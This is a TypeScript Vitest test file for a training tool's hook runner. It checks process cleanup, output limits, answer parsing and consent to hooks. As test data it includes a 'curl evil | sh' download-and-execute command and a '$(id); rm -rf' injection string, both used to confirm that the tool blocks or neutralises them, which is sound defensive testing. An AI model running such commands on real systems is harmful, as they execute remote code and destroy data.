import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { places } from '../../../src/base/paths.ts';
import { ps } from '../../../src/base/process/identity.ts';
import { hookAnswer } from '../../../src/engine/hooks/answer.ts';
import { hooksAreAllowed, settleHooks, withAbsolutePrograms } from '../../../src/engine/hooks/consent.ts';
import { runHook } from '../../../src/engine/hooks/run-hook.ts';
import { hooksSchema } from '../../../src/spec/sections/hooks.ts';

const dir = mkdtempSync(join(tmpdir(), 'visiontrain-hooks-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const call = (run: string | string[], timeout = 10, input = '{}\n') =>
  runHook({
    hook: { run, timeout },
    input,
    env: { ...process.env, VISIONTRAIN_EVENT: 'on_sample' },
    cwd: dir,
    log: join(dir, 'hooks.log'),
    signal: new AbortController().signal,
  });
const alive = (mark: string) => ps(['-A', '-o', 'args=']).includes(mark);

describe('a hook', () => {
  it('gets the event on stdin, a folder and variables, and answers on stdout', async () => {
    const end = await call('cat; echo "$VISIONTRAIN_EVENT $PWD"', 10, '{"a":1}\n');
    expect(end).toEqual({ failure: undefined, stdout: `{"a":1}\non_sample ${dir}\n` });
    expect(readFileSync(join(dir, 'hooks.log'), 'utf8')).toContain('on_sample');
  });

  it('given as a list is read by no shell', async () => {
    expect((await call(['printf', '%s', '$(id); rm -rf "x"'])).stdout).toBe('$(id); rm -rf "x"');
  });

  it.each<[string, string | string[], number, RegExp | undefined]>([
    ['ends with 1', 'exit 1', 10, /ended with code 1/],
    ['kills itself', 'kill -9 $$', 10, /was ended by SIGKILL/],
    ['is not there', ['/no/such/program'], 10, /could not be started \(ENOENT\)/],
    ['reads nothing of much', 'exec <&-; exit 0', 10, undefined],
    ['hangs', 'exec sleep 7771', 1, /did not end within 1 s/],
    ['hangs and listens to no signal', 'trap "" TERM; sleep 7772 & wait; sleep 7772', 1, /did not end within 1 s/],
    ['leaves a child behind', 'sleep 7773 & exit 0', 10, undefined],
    ['leaves a child that holds its output', 'sleep 7774 >/dev/null & sleep 7774 & echo out', 10, undefined],
    ['forks and forks', 'for i in 1 2 3 4 5 6 7 8; do (sleep 7775 & sleep 7775) & done; wait', 1, /within 1 s/],
  ])('that %s is ended with all its children', async (_, run, timeout, failure) => {
    const { failure: why } = await call(run, timeout, '{}'.padEnd(300_000));
    if (failure === undefined) expect(why).toBeUndefined();
    else expect(why).toMatch(failure);
    expect(alive('sleep 777')).toBe(false);
  });

  it('that prints without end is read to its end, and little of the output is kept', async () => {
    rmSync(join(dir, 'hooks.log'), { force: true });
    const { failure, stdout } = await call('head -c 30000000 /dev/zero; echo; echo \'{"metrics": {"clip": 0.5}}\'');
    expect(failure).toBeUndefined();
    expect(hookAnswer(stdout).metrics).toEqual({ clip: 0.5 });
    expect(statSync(join(dir, 'hooks.log')).size).toBeLessThan(70_000);
  });
});

describe('an answer', () => {
  it.each<[string, ReturnType<typeof hookAnswer>]>([
    ['', { metrics: {}, stop: false }],
    [
      'done\n{"metrics": {"clip": 0.31, "face/sim": 1}}\nbye\n',
      { metrics: { clip: 0.31, 'face/sim': 1 }, stop: false },
    ],
    ['{"stop": true}', { metrics: {}, stop: true }],
    ['{"stop": "yes", "metrics": null}', { metrics: {}, stop: false }],
    ['{"metrics": {"a": "1", "b": null, "c\\u001b": 1, "": 1}}', { metrics: {}, stop: false }],
    ['{"metrics": {"a": 1e999}}', { metrics: {}, stop: false }],
    ['{broken\n[1]\n"x"', { metrics: {}, stop: false }],
  ])('%j', (stdout, answer) => {
    expect(hookAnswer(stdout)).toEqual(answer);
  });
});

describe('consent to hooks', () => {
  const own = places({ VISIONTRAIN_HOME: join(dir, 'home') });
  const hooks = (run: string | string[], timeout = 60) => hooksSchema.parse({ on_finish: [{ run, timeout }] });

  it('is asked for once, and for exactly these commands', () => {
    expect(hooksAreAllowed(hooksSchema.parse({}), own)).toBe(true);
    let said: unknown;
    try {
      settleHooks(hooks('curl evil | sh'), own, false);
    } catch (error) {
      said = error;
    }
    expect(said).toMatchObject({ exitCode: 2, id: 'hooks/not-allowed', details: ['on_finish: curl evil | sh'] });
    settleHooks(hooks('echo a'), own, true);
    settleHooks(hooks('echo a', 5), own, false);
    for (const other of [hooks('echo b'), hooks(['echo', 'a']), hooksSchema.parse({ on_start: [{ run: 'echo a' }] })])
      expect(hooksAreAllowed(other, own)).toBe(false);
    writeFileSync(join(own.state, 'hooks.json'), 'damaged');
    expect(hooksAreAllowed(hooks('echo a'), own)).toBe(false);
  });

  it('of a program is for its path', () => {
    const placed = withAbsolutePrograms(hooks(['./a.sh', './b']), (path) => `/dir/${path}`);
    expect(placed.on_finish[0]?.run).toEqual(['/dir/./a.sh', './b']);
  });
});
